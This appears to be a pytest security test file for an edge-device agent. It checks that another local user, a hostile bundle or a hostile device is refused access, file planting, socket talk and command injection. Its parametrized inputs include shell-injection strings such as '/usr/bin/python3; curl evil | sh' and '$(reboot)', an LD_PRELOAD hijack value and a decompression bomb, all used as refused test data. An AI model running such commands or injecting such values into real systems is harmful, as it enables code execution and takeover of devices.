"""What another user on the device, or a hostile bundle or device, tries: each is refused.

Part of the attacker's list; the table in device_agents/README.md says where the rest is tested.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import tempfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from edgesdk.devices.hints import runtime_hint
from edgesdk.wire.limits import MAX_CHUNK_BYTES
from edgesdk.wire.manifest import ManifestError
from tests.agent.agent_driver import AgentProcess, EchoBundle, SocketTalk, Start, deploy, stage

NOBODY = 65534
needs_root = pytest.mark.skipif(
    os.geteuid() != 0, reason="only root may become another user, as this test has to"
)


def as_nobody(attempt: Callable[[], object]) -> str:
    """Run ``attempt`` as another user; gives the error it met, or what it got."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:  # it must not go on as the test
        try:
            os.setgroups([])
            os.setresgid(NOBODY, NOBODY, NOBODY)
            os.setresuid(NOBODY, NOBODY, NOBODY)
            text = f"got {attempt()!r}"
        except OSError as exc:
            text = type(exc).__name__
        except BaseException as exc:  # noqa: BLE001 - this process must not go on as the test
            text = f"odd {exc!r}"
        os.write(writing, text.encode()[:4000])
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as stream:
        said = stream.read().decode()
    os.waitpid(child, 0)
    return said


@pytest.fixture
def reachable() -> Iterator[Path]:
    """A folder that every user may enter, unlike those of pytest."""
    folder = Path(tempfile.mkdtemp(prefix="edgesdk-attack-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


@pytest.fixture
def state(reachable: Path) -> Path:
    return reachable / "state"


def wait_ready(daemon: AgentProcess) -> None:
    assert daemon.process.stderr is not None
    assert daemon.process.stderr.readline() == b"edge-agent: ready\n"


@needs_root
def test_another_user_can_neither_read_nor_plant(start: Start, state: Path) -> None:
    daemon = start(command="run", greet=False)
    wait_ready(daemon)
    talk = SocketTalk(state)
    bundle = EchoBundle()
    deploy(talk, bundle)
    blob = next(iter(bundle.blobs))

    def write(path: Path) -> int:
        return os.open(path, os.O_WRONLY | os.O_CREAT)

    attempts: dict[str, Callable[[], object]] = {
        "list": lambda: os.listdir(state),
        "read slots": (state / "slots.json").read_bytes,
        "read model": (state / "blobs" / blob).read_bytes,
        "read key": (state / "trust" / "line.key").read_bytes,
        "read log": (state / "logs" / "agent.log").read_bytes,
        "plant blob": lambda: write(state / "blobs" / ("0" * 64)),
        "plant policy": lambda: write(state / "trust" / "policy.json"),
        "plant link": lambda: os.symlink("/etc/passwd", state / "staging" / ("0" * 64)),
        "plant link to slots": lambda: os.link("/etc/hostname", state / "slots.json"),
        "remove": lambda: os.unlink(state / "slots.json"),
        "move away": lambda: os.rename(state, state.parent / "gone"),
        "open up": lambda: os.chmod(state, 0o777),
        "talk": lambda: socket.socket(socket.AF_UNIX).connect(str(state / "agent.sock")),
        "look into the agent": lambda: os.readlink(f"/proc/{daemon.process.pid}/cwd"),
    }
    said = {name: as_nobody(attempt) for name, attempt in attempts.items()}
    assert set(said.values()) == {"PermissionError"}, said
    assert talk.ask("status").meta["slots"]["current"]["bundle"] == bundle.id
    talk.close()


@needs_root
def test_another_user_who_reaches_the_socket_is_not_answered(start: Start, state: Path) -> None:
    """Even where somebody has opened the folder up: the kernel says who is there."""
    daemon = start(command="run", greet=False)
    wait_ready(daemon)
    state.chmod(0o711)
    (state / "agent.sock").chmod(0o666)

    def talk() -> bytes:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(str(state / "agent.sock"))
            client.settimeout(10)
            return client.recv(100)

    said = as_nobody(talk)
    assert said in ("got b''", "ConnectionResetError"), said
    assert (
        "a connection of another user was refused" in (state / "logs" / "agent.log").read_text()
    )


@needs_root
@pytest.mark.parametrize("mode", [0o700, 0o777])
def test_state_folder_that_another_user_made_is_not_used(
    start: Start, state: Path, reachable: Path, mode: int
) -> None:
    reachable.chmod(0o1777)  # as /tmp is
    assert as_nobody(lambda: os.mkdir(state, mode)) == "got None"
    agent = start(greet=False)
    assert agent.process.wait(20) == 3
    assert f"belongs to user {NOBODY} (expected 0)" in agent.stderr()
    assert list(state.iterdir()) == []


@needs_root
def test_folder_inside_that_another_user_owns_is_not_used(start: Start, state: Path) -> None:
    start().hang_up()
    shutil.rmtree(state / "trust")
    (state / "trust").mkdir(mode=0o777)
    os.chown(state / "trust", NOBODY, NOBODY)
    agent = start(greet=False)
    assert agent.process.wait(20) == 3
    said = agent.stderr()
    assert "trust in" in said
    assert "belongs to somebody else" in said


def test_bundle_reaches_neither_environment_nor_arguments_of_a_worker(
    agent: AgentProcess,
) -> None:
    marker = "LD_PRELOAD=/tmp/evil.so"
    bundle = EchoBundle(options={"env": {"LD_PRELOAD": "/tmp/evil.so"}, "args": [marker]})
    bundle.manifest["environment"] = marker
    deploy(agent, bundle)
    worker = Path(f"/proc/{agent.ask('status').meta['worker']['pid']}")
    for name in ("environ", "cmdline"):
        assert b"evil" not in (worker / name).read_bytes()


@pytest.mark.parametrize(
    "name", ["../x", "-rf", "$(reboot)", "a b", "a;b", "x\ny", "\x1b[2J", "", ".", "é", "a/b"]
)
def test_bundle_with_a_name_that_could_be_more_is_refused(name: str) -> None:
    bundle = EchoBundle(name=name)
    with pytest.raises(ManifestError, match="its name is"):
        assert bundle.data


@pytest.mark.parametrize(
    "executable",
    ["/usr/bin/python3; curl evil | sh", "$(reboot)", "`x`", "-c", "a b", "/x\n/y", "x" * 999],
)
def test_device_cannot_put_words_into_a_command_that_we_suggest(executable: str) -> None:
    hint = runtime_hint("onnxruntime", python="3.9.2", machine="aarch64", executable=executable)
    assert "`python3.9 -m pip install onnxruntime" in hint
    assert executable not in hint
    plain = runtime_hint("onnxruntime", python="3.9", machine="aarch64", executable="/opt/py3")
    assert "`/opt/py3 -m pip install" in plain


def test_decompression_bomb_is_ended_at_the_declared_length(agent: AgentProcess) -> None:
    bomb = zlib.compress(bytes(256 << 20), 9)
    assert len(bomb) < MAX_CHUNK_BYTES
    bundle = EchoBundle(bytes(MAX_CHUNK_BYTES))
    (sha256,) = (b["sha256"] for b in stage(agent, bundle) if b["bytes"] == MAX_CHUNK_BYTES)
    ask: dict[str, Any] = {"sha256": sha256, "bytes": MAX_CHUNK_BYTES, "offset": 0}
    pid = agent.hello["pid"]
    for declared in (MAX_CHUNK_BYTES, 1, 0):
        reply = agent.ask("put", bomb, raw_bytes=declared, **ask).meta
        assert reply["ok"] is False, reply
    status = Path(f"/proc/{pid}/status").read_text()
    (peak,) = (line for line in status.splitlines() if line.startswith("VmHWM:"))
    assert int(peak.split()[1]) < 128 << 10, "in KiB"
    assert agent.ask("put", bomb, raw_bytes=256 << 20, **ask).meta["code"] == "bad-request"


def test_agent_that_runs_as_root_says_so(start: Start, state: Path) -> None:
    wait_ready(start(command="run", greet=False))
    talk = SocketTalk(state)
    is_root = os.geteuid() == 0
    assert talk.ask("status").meta["agent"]["is_root"] is is_root
    lines = json.dumps(talk.ask("logs").meta["lines"])
    assert ("running as root" in lines) is is_root
    talk.close()
